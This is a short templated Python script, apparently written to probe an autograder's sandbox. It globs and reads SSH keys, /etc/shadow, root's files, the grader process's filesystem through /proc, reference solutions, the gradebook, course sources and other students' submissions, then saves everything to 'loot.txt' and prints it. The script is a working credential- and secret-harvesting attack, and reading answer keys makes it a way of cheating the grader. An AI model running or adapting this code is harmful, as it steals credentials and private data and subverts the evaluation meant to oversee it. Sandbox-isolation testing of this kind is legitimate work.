import glob
import os

loot = []
for pattern in (
    "@@HOME@@/.ssh/*", "@@SECRET_FILE@@", "@@OTHER@@", "@@REFERENCES@@/*.py", "@@COURSE@@/source/**/*", "@@GRADEBOOK@@", "@@TEMPORARY@@/**/*",
    "/root/*/*", "/root/*", "/home/*/.ssh/*", "/etc/shadow", "/proc/1/root@@SECRET_FILE@@", "/proc/self/root@@SECRET_FILE@@",
    "/proc/self/cwd/../../**/secret", "../**/submitted/**/*", "/run/judge/*", "/proc/@@GRADER_PID@@/root@@OTHER@@",
):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            loot.append(path + repr(open(path, "rb").read(65536)))
        except OSError as error:
            loot.append(f"{path} {error}")
open("loot.txt", "w").write("\n".join(loot))
print("\n".join(loot))
